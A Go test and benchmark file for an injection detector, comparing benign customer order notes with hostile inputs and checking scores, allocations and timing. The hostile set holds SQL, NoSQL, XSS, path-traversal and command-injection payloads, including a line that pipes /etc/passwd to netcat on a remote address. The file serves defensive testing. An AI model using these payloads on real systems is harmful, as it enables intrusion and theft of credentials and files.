package detect

import (
	"testing"
	"time"
)

// orderTexts are eight fields of free text, 1 KiB together, as people write
// them.
var orderTexts = [8]string{
	"The chair arrived on Friday, two days later than promised, but it's well packed and the colour is just what we'd hoped for. Great!",
	"Please leave the parcel with Mrs. O'Neill next door (no. 12), she's at home until 5 pm. If not: behind the green gate, thank you.",
	"We ordered 2 tables & 8 chairs; one chair was damaged. Could you send another, or should we return it? Photos are attached below.",
	"My daughter turns 7 on Sunday - it's a surprise, so please don't ring the bell; call +44 20 7946 0958 instead. Many thanks, Anne",
	"Quality: 5/5, price: 4/5, delivery: 3/5. I'd buy here again, and so would my friends. They said \"better than the other shop\".",
	"Invoice to: Müller & Söhne GmbH, Hauptstr. 5, 80331 München; our reference is 2026/1127-B. Payment within 14 days as agreed.",
	"Does the lamp come with a bulb (E27, 60 W)? The picture shows one, the text doesn't say. And is the cable longer than 1.5 m?",
	"Having friends over is nice; select a wine from the list, and if you like it, order by phone. Cheers <3 and see you all soon!",
}

var hostileTexts = [8]string{
	"1' and 5=(select count(*) from information_schema.tables) and 'a'='a", "The chair is nice' union all select null,concat(0x7171,password),null from users-- and more text behind it",
	"<img src=x onerror=alert(document.cookie)> what a nice chair that is, we like it very much indeed", "%2527%2520or%25201%253D1--%2520 and then some words that go on for a while to fill the field",
	"&#x27; or sleep(5)# the rest of this field is plain text, which a reader has to pass through as well", "; cat /etc/passwd | nc 10.0.0.1 4444 & the rest of this field is plain text again, and then ends",
	"../../../../../../etc/passwd%00.png is the name of a file that somebody would like to read from here", "{\"$where\": \"this.password == 'x' || sleep(5000)\", \"note\": \"it's only a text\", \"list\": [1, 2, 3]}",
}

func judgeTexts(texts *[8][]byte) (worst uint8) {
	for _, text := range texts {
		worst = max(worst, Judge(text, JSON, FreeText).Score)
	}
	return worst
}

func bytesOf(texts *[8]string) (b [8][]byte) {
	for i, s := range texts {
		b[i] = []byte(s)
	}
	return b
}

func BenchmarkBenign(b *testing.B) {
	texts := bytesOf(&orderTexts)
	b.ReportAllocs()
	for b.Loop() {
		judgeTexts(&texts)
	}
}

func BenchmarkHostile(b *testing.B) {
	texts := bytesOf(&hostileTexts)
	b.ReportAllocs()
	for b.Loop() {
		judgeTexts(&texts)
	}
}

func BenchmarkParameter(b *testing.B) {
	values := [][]byte{[]byte("42"), []byte("green bicycle"), []byte("jo@example.com"), []byte("2026-11-27")}
	b.ReportAllocs()
	for b.Loop() {
		for _, v := range values {
			Judge(v, Query, Unknown)
		}
	}
}

// TestAllocations holds that neither harmless nor hostile texts allocate.
func TestAllocations(t *testing.T) {
	for name, list := range map[string]*[8]string{"benign": &orderTexts, "hostile": &hostileTexts} {
		texts := bytesOf(list)
		judgeTexts(&texts)
		if n := testing.AllocsPerRun(100, func() { judgeTexts(&texts) }); n != 0 {
			t.Errorf("%s: %v allocations", name, n)
		}
	}
}

// TestTextsOfSpeedTests sees that what is called hostile is, and what is
// called benign is too.
func TestTextsOfSpeedTests(t *testing.T) {
	for _, s := range orderTexts {
		if v := Judge([]byte(s), JSON, FreeText); v.Score >= Threshold(FreeText) {
			t.Errorf("%q: %v", s, v)
		}
	}
	for _, s := range hostileTexts {
		if v := Judge([]byte(s), JSON, Unknown); v.Score < Threshold(Unknown) {
			t.Errorf("%q: %v", s, v)
		}
	}
}

// TestHostileIsNoLever holds the time of eight hostile texts within reach of
// that of eight harmless ones, with room for a machine that does more.
func TestHostileIsNoLever(t *testing.T) {
	least := func(list *[8]string) time.Duration {
		texts := bytesOf(list)
		best := time.Hour
		for range 200 {
			begin := time.Now()
			judgeTexts(&texts)
			best = min(best, time.Since(begin))
		}
		return best
	}
	benign, hostile := least(&orderTexts), least(&hostileTexts)
	if hostile > 10*benign && hostile > 100*time.Microsecond {
		t.Errorf("hostile %v, benign %v", hostile, benign)
	}
}
